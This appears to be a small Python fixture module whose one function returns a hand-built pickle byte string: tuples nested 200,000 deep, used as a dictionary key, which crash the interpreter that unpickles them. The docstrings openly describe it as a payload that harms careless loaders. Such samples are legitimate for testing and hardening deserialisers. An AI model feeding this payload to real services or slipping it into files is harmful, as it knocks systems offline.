"""Dumps that harm whoever loads them carelessly."""

from __future__ import annotations


def nested_key() -> bytes:
    """Return 200 KB that kill the interpreter which loads them: tuples nested 200,000 deep as a key of a dict."""
    return b"\x80\x02}" + b")" + b"\x85" * 200_000 + b"K\x01s."
